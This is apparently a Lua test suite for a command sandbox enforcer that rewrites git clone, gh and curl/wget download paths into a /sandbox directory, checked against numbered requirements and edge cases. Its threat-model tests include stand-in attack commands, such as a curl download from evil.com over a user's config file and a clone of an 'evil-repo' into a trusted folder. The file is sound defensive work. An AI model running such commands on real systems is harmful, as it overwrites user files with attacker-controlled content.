--- The requirements of F-006, row by row: the table of R-001, R-002 to R-006, the edge cases
-- and the success criteria. Where the document settled for less, its row is judged with
-- SANDBOX_SCOPE=first, and ours next to it.
local core = require("sandbox_enforcer.core")
local enforce = require("enforce")
local place = require("place")

local FIRST <const> = { SANDBOX_SCOPE = "first" }
local URL <const> = "https://github.com/someone/repo.git"

describe("F-006", function()
  local here = place.new()
  teardown(here.remove)

  local function becomes(name, given, expected, env)
    it(name, function()
      local decision = enforce.library(here, given, env)
      assert.same({}, expected and {} or decision.reasons)
      assert.equal(expected, decision.command)
      assert.equal(expected and "rewrite" or nil, decision.verdict)
    end)
  end

  describe("R-001 intercepts", function()
    becomes("git clone <url> <dir>", "git clone " .. URL .. " d", "git clone " .. URL
      .. " /sandbox/d")
    becomes("git clone <url>", "git clone " .. URL, "git clone " .. URL .. " /sandbox/repo")
    becomes("gh repo clone <owner/repo> <dir>", "gh repo clone o/r d",
      "gh repo clone o/r /sandbox/d")
    becomes("gh repo clone <owner/repo>", "gh repo clone o/r", "gh repo clone o/r /sandbox/r")
    becomes("curl -o <path> <url>", "curl -o p https://h/x", "curl -o /sandbox/p https://h/x")
    becomes("curl <url> -o <path>", "curl https://h/x -o p", "curl https://h/x -o /sandbox/p")
    becomes("curl <url> > <path>", "curl https://h/x > p", "curl https://h/x > /sandbox/p")
    becomes("wget -O <path> <url>", "wget -O p https://h/x", "wget -O /sandbox/p https://h/x")
    becomes("wget <url>", "wget https://h/x", "wget -P /sandbox https://h/x")
    becomes("wget -P <dir> <url>", "wget -P d https://h/x", "wget -P /sandbox/d https://h/x")
  end)

  describe("the threat model", function()
    becomes("git clone to an arbitrary path", "git clone https://h/evil-repo ~/work/trusted/",
      "git clone https://h/evil-repo /sandbox/trusted")
    becomes("a download", "curl -o ~/important.yaml https://evil.com/payload",
      "curl -o /sandbox/important.yaml https://evil.com/payload")
    it("gh pr checkout outside the sandbox", function()
      assert.equal("deny", enforce.library(here, "gh pr checkout 123").verdict)
    end)
    becomes("gh pr checkout inside of it", "cd /sandbox && gh pr checkout 123")
    becomes("a local copy", "cp /mnt/shared/file.yaml ~/work/")
  end)

  describe("R-002 leaves alone", function()
    for _, command in ipairs({ "git commit -m x", "git push", "git branch new", "git pull",
      "git diff", "git log",
      "git status", "ls", "cat f", "find . -name x", "npm install", "bun install", "bun test",
        "bun run build" }) do
      becomes(command, command)
    end
  end)

  describe("R-003", function()
    becomes("rewrites the first example", "git clone " .. URL, "git clone " .. URL
      .. " ~/work/sandbox/repo",
      { CONTENT_FILTER_SANDBOX_DIR = "~/work/sandbox" })
    becomes("rewrites the second example", "curl -o data.json https://api.example.com/data",
      "curl -o ~/work/sandbox/data.json https://api.example.com/data",
      { CONTENT_FILTER_SANDBOX_DIR = "~/work/sandbox" })
    it("asks about what is ambiguous", function()
      assert.equal("ask", enforce.library(here, 'curl -o "$OUT" https://h/x').verdict)
    end)
  end)

  describe("R-005", function()
    becomes("git pull outside the sandbox", "git pull")
    becomes("git pull inside of it", "cd /sandbox/repo && git pull")
  end)

  describe("the edge cases", function()
    becomes("git clone --depth 1 <url>", "git clone --depth 1 " .. URL, "git clone --depth 1 "
      .. URL .. " /sandbox/repo")
    becomes("git clone <url> .", "git clone " .. URL .. " .", "git clone " .. URL
      .. " /sandbox/repo")
    becomes("curl -L -o file.json <url>", "curl -L -o file.json https://h/x",
      "curl -L -o /sandbox/file.json https://h/x")
    becomes("curl <url> | jq .data > file.json, as the document has it",
      "curl https://h/x | jq .data > file.json", nil, FIRST)
    becomes("the same, ours", "curl https://h/x | jq .data > file.json",
      "curl https://h/x | jq .data > /sandbox/file.json")
    becomes("$(git clone ...), as the document has it", "x=$(git clone " .. URL .. ")", nil, FIRST)
    becomes("the same, ours", "x=$(git clone " .. URL .. ")", "x=$(git clone " .. URL
      .. " /sandbox/repo)")
    becomes("git clone a && git clone b, as the document has it",
      "git clone https://h/a && git clone https://h/b",
      "git clone https://h/a /sandbox/a && git clone https://h/b", FIRST)
    becomes("the same, ours", "git clone https://h/a && git clone https://h/b",
      "git clone https://h/a /sandbox/a && git clone https://h/b /sandbox/b")
    becomes("bash script.sh", "bash script.sh")
    it("an agent that is in the sandbox already", function()
      assert(core.mkdir(here.sandbox, 448))
      local inside = setmetatable({ project = here.sandbox }, { __index = here })
      assert.equal(nil, enforce.library(inside, "git clone " .. URL).verdict)
      assert.equal(nil, enforce.library(inside, "wget https://h/x && curl -O https://h/y").verdict)
    end)
  end)

  describe("the success criteria", function()
    becomes("Chained git clone a && cd a: only the clone is modified, as the document has it",
      "git clone https://h/a && cd a", "git clone https://h/a /sandbox/a && cd a", FIRST)
    becomes("the same, ours: and what names it", "git clone https://h/a && cd a",
      "git clone https://h/a /sandbox/a && cd /sandbox/a")
    becomes("git clone <url> <sandbox/dir> is allowed as it is", "git clone " .. URL
      .. " /sandbox/dir")
    becomes("git commit is not intercepted", "git commit -am x")
    becomes("git pull in an own workspace is not intercepted", "git pull --rebase")
    it("a malformed command fails open", function()
      local decision = enforce.library(here, "git clone '" .. URL)
      assert.equal(nil, decision.verdict)
      assert.truthy(decision.unreadable)
    end)
    it("every rewrite says the old and the new path", function()
      assert.same({ "Redirected git clone to sandbox: /sandbox/d (was x/d)" },
        enforce.library(here, "git clone " .. URL .. " x/d").reasons)
    end)
  end)
end)
